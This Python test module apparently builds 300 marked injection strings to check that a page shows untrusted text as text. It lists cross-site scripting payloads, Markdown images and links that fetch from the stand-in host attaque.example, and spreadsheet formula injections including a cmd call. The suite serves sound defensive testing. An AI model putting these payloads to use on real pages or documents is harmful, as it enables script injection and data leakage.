"""Three hundred texts that would be live if a page took them for more than text: families × variants, each marked."""

from __future__ import annotations

import re
from dataclasses import dataclass

# Of the range kept for examples: nobody answers there, and no page of ours may ask.
OUTSIDE = "attaque.example"
MARK = re.compile(r"ZK\d{3}Q")

# In each, M is the payload's own mark; H is a host of somebody else.
FAMILIES: dict[str, tuple[str, ...]] = {
    "script": (
        "<script data-attack>alert('M')</script>",
        "</script><script data-attack src=//H/M></script>",
        "<SCRIPT data-attack>alert`M`</SCRIPT>",
        "<scr<script>ipt>alert('M')</scr</script>ipt>",
        "\"><script data-attack>alert('M')</script>",
        "';alert('M');//",
        "</textarea><script data-attack>alert('M')</script>",
        "{{constructor.constructor('alert(1)')()}}M",
    ),
    "an element with a handler": (
        "<img data-attack src=//H/M.png onerror=alert('M')>",
        "<svg data-attack onload=alert('M')></svg>",
        "<iframe data-attack src=javascript:alert('M')></iframe>",
        "<iframe data-attack srcdoc='<script>alert(1)</script>'>M",
        "<details data-attack open ontoggle=alert('M')>M</details>",
        "<video data-attack><source onerror=alert('M')></video>",
        "<body data-attack onload=alert('M')>",
        "<object data-attack data=//H/M></object>",
        "<embed data-attack src=//H/M>",
        "<form data-attack action=//H/M><button>M</button></form>",
        "<math data-attack><mi href=javascript:alert('M')>M</mi></math>",
        "<a data-attack href=javascript:alert('M')>M</a>",
    ),
    "what fetches": (
        "<link data-attack rel=stylesheet href=//H/M.css>",
        "<meta data-attack http-equiv=refresh content='0;url=//H/M'>",
        "<base data-attack href=//H/M>",
        "<style data-attack>@import '//H/M.css';</style>",
        "<b data-attack style=background:url(//H/M)>M</b>",
        "<input data-attack type=image src=//H/M>",
    ),
    "a Markdown image": (
        "![M](http://H/M.png)",
        "![M](//H/M.png)",
        "![M][1]\n\n[1]: http://H/M.png",
        '![M](http://H/M.png "titre")',
        "[![M](http://H/M.png)](http://H/M)",
        "M ![](data:image/svg+xml,<svg/onload=alert(1)>)",
    ),
    "a Markdown link": (
        "[M](http://H/M)",
        "[M](javascript:alert(1))",
        "<http://H/M>",
        "http://H/M",
        "www.H/M",
        "M@H",
        "[M](/administration)",
        "[M](data:text/html,<script>alert(1)</script>)",
    ),
    "Markdown": (
        "**M**",
        "# M",
        "- M",
        "1. M",
        "> M",
        "`M`",
        "```M",
        "~~M~~",
        "| M | b |\n|---|---|\n| c | d |",
        "M\n===",
        "___M___",
        "[x] M[^1]",
    ),
    "a directive": (
        ":red[M]",
        ":blue-background[M]",
        ":rainbow[M]",
        ":material/home: M",
        ":streamlit: M",
        ":smile: M",
        ":small[M]",
        ":orange-badge[M]",
        "<- M -> <= 2",
    ),
    "a formula of mathematics": ("$M$", "$$M$$", r"$\href{http://H/M}{M}$", r"$\frac{M}{2}$", r"\(M\)"),
    "an entity": ("&lt;b&gt;M", "&#60;img src=//H/M&#62;", "&nbsp;M&amp;", "&#x1F600;M", "&copy;M"),
    "a formula of spreadsheets": (
        "=HYPERLINK(\"http://H/M\",\"M\")",
        "+cmd|'/C calc'!M",
        "-2+3+M",
        "@SUM(1+M)",
        "=IMPORTXML(\"http://H/M\",\"//a\")",
    ),
    "what cannot be seen": (
        "M\u202e<b>olleh</b>",
        "\u2066M\u2069[x](http://H/M)",
        "M\u200b![\u200b](http://H/M.png)",
        "\ufeffM:red[x]",
        "M\u00adoui",
    ),
}  # fmt: skip
WRAPPINGS = ("{}", "Awa {}", "{} !", "L'{} (2)", "{}.")
COUNT = 300


@dataclass(frozen=True)
class Payload:
    family: str
    mark: str
    text: str


def _payload(number: int) -> Payload:
    flat = [(family, text) for family, texts in FAMILIES.items() for text in texts]
    family, text = flat[number % len(flat)]
    mark = f"ZK{number:03d}Q"
    told = re.sub(r"(?<![A-Z])M(?![A-Z])", mark, re.sub(r"(?<![A-Z])H(?![A-Z])", OUTSIDE, text))
    wrapped = WRAPPINGS[number // len(flat)].replace("{}", told)
    return Payload(family, mark, wrapped)


PAYLOADS = tuple(_payload(number) for number in range(COUNT))
# One of each shape, for where each is a line of a list.
SHAPES = PAYLOADS[: sum(map(len, FAMILIES.values()))]
BY_MARK = {payload.mark: payload for payload in PAYLOADS}
